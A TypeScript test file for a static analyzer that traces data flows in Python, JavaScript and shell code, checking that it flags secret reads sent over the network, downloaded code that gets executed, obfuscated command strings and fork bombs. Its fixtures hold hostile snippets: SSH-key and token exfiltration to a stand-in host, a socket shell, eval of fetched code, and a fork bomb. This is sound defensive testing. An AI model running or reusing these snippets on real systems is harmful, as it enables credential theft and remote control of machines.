import * as fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import type { Fact } from "../facts.ts";
import type { ProgramLanguage } from "./ir.ts";
import { loadGrammars, type Grammars } from "./parsers.ts";
import { readProgram } from "./read-program.ts";
import type { Trace } from "./trace.ts";

let grammars: Grammars;
beforeAll(async () => {
  grammars = await loadGrammars();
});

function read(language: ProgramLanguage, text: string): Trace {
  const lines = text.split("\n");
  return readProgram(grammars, language, text, {
    file: "s",
    via: [],
    lineAt: (line) => line,
    excerptAt: (line) => lines[line - 1] ?? "",
  });
}

function sources(fact: Fact): readonly Fact[] {
  return fact.from.flatMap((one) => [one, ...sources(one)]);
}

/** `send <- read-secret` when the value of a read flows into a send. */
function flows(language: ProgramLanguage, text: string): readonly string[] {
  const { facts } = read(language, text);
  const all = facts.flatMap((fact) => sources(fact).map((one) => `${fact.op} <- ${one.op}`));
  return [...new Set(all)];
}

type Row = readonly [what: string, language: ProgramLanguage, text: string, flow: string];

const FLOWING: readonly Row[] = [
  [
    "a key through a with-statement",
    "python",
    "import requests\nwith open('/root/.ssh/id_rsa') as f:\n  k = f.read()\nrequests.post('https://a.test', data=k)",
    "send <- read-secret",
  ],
  [
    "a renamed import",
    "python",
    "from os import environ as e\nimport requests as r\nr.post('https://a.test', json=e['A_TOKEN'])",
    "send <- read-secret",
  ],
  [
    "a list that is added to",
    "python",
    "import os, requests\nd = []\nd.append(os.environ['A_TOKEN'])\nrequests.post('https://a.test', json=d)",
    "send <- read-secret",
  ],
  [
    "a method of a class",
    "python",
    "import requests\nclass A:\n  def go(self):\n    return self.up(open('.env').read())\n  def up(self, d):\n    requests.post('https://a.test', data=d)",
    "send <- read-secret",
  ],
  [
    "a file that is fetched and run",
    "python",
    "import os, requests\nwith open('/tmp/x', 'wb') as f:\n  f.write(requests.get('https://a.test/x').content)\nos.system('sh /tmp/x')",
    "evaluate <- download",
  ],
  [
    "a shell on a socket",
    "python",
    "import socket, os\ns = socket.socket()\ns.connect(('203.0.113.7', 9))\nos.dup2(s.fileno(), 0)",
    "evaluate <- download",
  ],
  [
    "an instance of a class",
    "python",
    "import requests\nclass A:\n  def __init__(self, u):\n    self.u = u\n  def up(self, d):\n    requests.post(self.u, data=d)\na = A('https://a.test')\na.up(open('.env').read())",
    "send <- read-secret",
  ],
  [
    "a key through a promise",
    "javascript",
    "const fs = require('node:fs');\nconst k = fs.readFileSync('/root/.ssh/id_rsa');\nfetch('https://a.test', { method: 'POST', body: JSON.stringify({ k }) });",
    "send <- read-secret",
  ],
  [
    "an answer that is handed to eval",
    "javascript",
    "fetch('https://a.test').then((r) => r.text()).then(eval);",
    "evaluate <- download",
  ],
  [
    "an answer in pieces",
    "javascript",
    "import https from 'https';\nhttps.get('https://a.test', (r) => { let b = ''; r.on('data', (d) => { b += d; }); r.on('end', () => eval(b)); });",
    "evaluate <- download",
  ],
  [
    "options that have a name",
    "typescript",
    "import * as http from 'http';\nconst options = { hostname: 'a.test', method: 'POST' };\nconst q: any = http.request(options);\nq.write(process.env.A_TOKEN!);",
    "send <- read-secret",
  ],
  [
    "decoded code by a name in pieces",
    "javascript",
    "globalThis['ev' + 'al'](Buffer.from('YWxlcnQoMSk=', 'base64').toString());",
    "evaluate <- decode",
  ],
];

const QUIET: readonly Row[] = [
  [
    "a key that is read and another thing that is sent",
    "python",
    "import requests\nk = open('/root/.ssh/id_rsa').read()\nd = 'hello'\nrequests.post('https://a.test', data=d)",
    "send <- read-secret",
  ],
  [
    "the output of a program that got the environment",
    "python",
    "import os, subprocess, requests\no = subprocess.run(['make'], env={**os.environ})\nrequests.post('https://a.test', data=o)",
    "send <- read-environment",
  ],
  [
    "another file than the one that was fetched",
    "python",
    "import os, requests\nwith open('/tmp/x', 'wb') as f:\n  f.write(requests.get('https://a.test/x').content)\nos.system('sh build.sh')",
    "evaluate <- download",
  ],
  [
    "an answer that is only read",
    "javascript",
    "const a = await (await fetch('https://a.test')).json();\nconsole.log(a.name);",
    "evaluate <- download",
  ],
  [
    "one variable by a name of the run",
    "javascript",
    "fetch('https://a.test', { method: 'POST', body: process.env[name] });",
    "send <- read-environment",
  ],
];

describe("a value is followed", () => {
  test.each(FLOWING)("%s", (_what, language, text, flow) => {
    expect(flows(language, text)).toContain(flow);
  });
  test.each(QUIET)("and is not where there is none: %s", (_what, language, text, flow) => {
    expect(flows(language, text)).not.toContain(flow);
  });
});

describe("a text in pieces is put together as the language would", () => {
  const SPELLED: readonly (readonly [ProgramLanguage, string])[] = [
    ["python", "__import__('o' + 's').system('%s %s' % ('echo', 'hi'))"],
    ["python", "import os\ngetattr(os, 'sys' + 'met'[::-1])(f'echo {\"hi\"}')"],
    ["python", "import os\nos.system(''.join([chr(c) for c in [101, 99, 104, 111, 32]]) + 'hi')"],
    [
      "python",
      "import os\nos.system(''.join(chr(ord(c) ^ 1) for c in 'dbin!hi').replace('ih', 'hi'))",
    ],
    ["python", "import os\nos.system('ih ohce'[::-1])"],
    ["python", "import os\nos.system(r'echo' '\\x20hi')"],
    ["javascript", "require('child_' + 'process').exec('ih ohce'.split('').reverse().join(''))"],
    ["javascript", "const { exec: e } = require('child_process'); const a = 'hi'; e(`echo ${a}`)"],
    [
      "javascript",
      "import * as c from 'node:child_process'; c['ex' + 'ec'](String.fromCharCode(101, 99) + 'ho hi')",
    ],
    [
      "typescript",
      "import { exec } from 'child_process'; const a: string = '\\x65cho'; exec(a + ' hi')",
    ],
  ];
  test.each(SPELLED)("%s: %s", (language, text) => {
    expect(read(language, text).uncovered.map((one) => one.text)).toContain("echo hi");
  });
});

describe("what uses the machine up", () => {
  const exhausts = (language: ProgramLanguage, text: string) =>
    read(language, text)
      .facts.filter((fact) => fact.op === "exhaust")
      .map((fact) => fact.class);

  test("is a loop without an end in which processes are made", () => {
    expect(exhausts("python", "import os\nwhile True:\n  os.fork()")).toEqual(["fork-bomb"]);
    expect(exhausts("javascript", "for (;;) { a.push(Buffer.alloc(1e9)); }")).toEqual([
      "memory-fill",
    ]);
  });

  test("is not a loop that waits for work", () => {
    expect(exhausts("python", "while True:\n  poll()\n  time.sleep(5)")).toEqual([]);
    expect(exhausts("javascript", "while (true) { if (done()) break; }")).toEqual([]);
  });
});

describe("hostile texts", () => {
  const doubled = (first: string) =>
    `v0=${first}\n${Array.from({ length: 3000 }, (_, at) => `v${at + 1}="$v${at}$v${at}"`).join("\n")}\n$v3000\n`;

  test("that double a value on each line end, known or not, and say what was cut", () => {
    expect(read("shell", doubled("$(make)")).facts.length).toBeGreaterThan(0);
    expect(read("shell", doubled("abcdefghijklmnop")).isWhole).toBe(false);
  });

  const languages = ["python", "javascript", "typescript", "shell"] as const;

  test("nothing that is thrown at it makes it throw", () => {
    const tokens = fc.constantFrom(
      ..."( ) [ ] { } = + . , : ; \n ' \" ` ${ if for def class => import from exec eval os x 1 lambda async await return".split(
        " ",
      ),
    );
    const texts = fc.oneof(
      fc.string(),
      fc.array(tokens, { maxLength: 80 }).map((all) => all.join(" ")),
    );
    fc.assert(
      fc.property(fc.constantFrom(...languages), texts, (language, text) => {
        expect(read(language, text).facts.length).toBeLessThanOrEqual(4_000);
      }),
      { numRuns: 150, seed: 4 },
    );
  });

  test.each(languages.slice(0, 3))(
    "what is nested without end is cut off, and says so: %s",
    (language) => {
      for (const [open, close] of [
        ["(", ")"],
        ["[", "]"],
        ["f(", ")"],
        ["{", "}"],
      ] as const) {
        const text = `x = ${open.repeat(3_000)}1${close.repeat(3_000)}`;
        expect(read(language, text).facts).toEqual([]);
      }
      const calls = read("javascript", `x = ${"f(".repeat(3_000)}1${")".repeat(3_000)}`);
      expect(calls.isWhole).toBe(false);
    },
  );

  test("keys that every object has are keys like others", () => {
    const text =
      "f({ __proto__: process.env, constructor: 1, toString: 2 }); hasOwnProperty(1); a.constructor(1);";
    expect(read("javascript", text).facts.map((fact) => fact.op)).toEqual(["read-environment"]);
  });

  test("a thousand pieces in a row are one text", () => {
    const text = `import os\nos.system(${Array.from({ length: 1_000 }, () => "'a'").join(" + ")})`;
    expect(read("python", text).uncovered.map((one) => one.text)).toEqual(["a".repeat(1_000)]);
  });
});
